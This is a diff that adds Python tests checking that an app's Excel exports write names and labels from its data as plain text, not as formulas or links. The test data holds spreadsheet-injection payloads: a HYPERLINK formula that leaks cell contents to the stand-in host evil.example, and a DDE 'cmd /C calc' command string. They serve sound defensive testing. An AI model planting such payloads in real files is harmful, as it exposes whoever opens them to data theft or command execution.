@@ -381,3 +381,71 @@ def test_the_presentation_role_opens_start_with_its_units_and_no_names(monkeypat
     at = open_app(monkeypatch, sample_store, user="t_pres", script="pages/start.py")
     assert "Den här sidan ingår inte i din roll." not in [e.value for e in at.error]
     assert [t.value for t in at.title] == ["Enhetskollen"]
+
+
+# 5. Excel: text from data is text, never a formula or a link.
+
+EVIL_FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'
+EVIL_TEXTS = {  # written as -> read back as (a leading ' makes Excel keep the cell text if someone edits it)
+    EVIL_FORMULA: "'" + EVIL_FORMULA,
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(A1:A2)": "'@SUM(A1:A2)",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'_x000D_=1+1",  # xlsx stores a carriage return as _x000D_, and openpyxl reads it so
+    "http://evil.example/x": "http://evil.example/x",
+    "Mottagningsgruppen": "Mottagningsgruppen",
+    "-2\u00a0450\u00a0001\u00a0kr": "-2\u00a0450\u00a0001\u00a0kr",  # a formatted number stays as the page shows it
+    "-3,5\u00a0%": "-3,5\u00a0%",
+}
+
+
+def _cells(data: bytes) -> list:
+    import io
+
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(data))
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def test_the_page_workbook_writes_text_as_text(tmp_path):
+    import pandas as pd
+
+    from ui.output.excel import workbook
+
+    frame = pd.DataFrame({"Namn": list(EVIL_TEXTS), "Antal": range(len(EVIL_TEXTS))})
+    cells = _cells(workbook({"Tabell": frame, "=Blad": frame.rename(columns={"Namn": "=Namn"})}))
+    names = [c for c in cells if c.column == 1 and c.row > 1]
+    assert [c.value for c in names] == list(EVIL_TEXTS.values()) * 2
+    assert {c.data_type for c in names} == {"s"}
+    assert not [c for c in cells if c.data_type == "f" or c.hyperlink is not None]
+    assert [c.value for c in cells if c.row == 1 and c.column == 1] == ["Namn", "'=Namn"]
+    assert [c.value for c in cells if c.column == 2 and c.row == 3] == [1, 1]  # numbers stay numbers
+
+
+def test_cli_export_xlsx_writes_names_from_the_store_as_text(org, tmp_path):
+    import subprocess
+    import sys
+    from pathlib import Path
+
+    from sqlalchemy import update
+
+    from models import Team
+
+    with session_scope(org) as session:
+        session.execute(update(Team).where(Team.team_code == "UTR1").values(team_name=EVIL_FORMULA))  # on the Arbetstyngd sheet
+        goal = goals.add_goal(session, 2024, "enhet", "Skydd snabbt", None, "BOU", actor=SYSTEM)
+        goals.add_indicator(session, goal, name="@SUM(A1:A9)", target=0.8, is_share=True, actor=SYSTEM)
+        goals.add_indicator(session, goal, name="http://evil.example/x", target=0.8, is_share=True, actor=SYSTEM)
+    out = tmp_path / "tabeller.xlsx"
+    root = Path(__file__).resolve().parent.parent
+    done = subprocess.run([sys.executable, "cli.py", "export", "xlsx", "--unit", "BOU", "--year", "2024", "--period", "T1",
+                           "-o", str(out), "--database-url", org.url.render_as_string(hide_password=False)],
+                          cwd=root, capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, done.stderr
+    cells = _cells(out.read_bytes())
+    assert not [c for c in cells if c.data_type == "f" or c.hyperlink is not None]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert "'" + EVIL_FORMULA in texts and EVIL_FORMULA not in texts
+    assert "'@SUM(A1:A9)" in texts and "http://evil.example/x" in texts
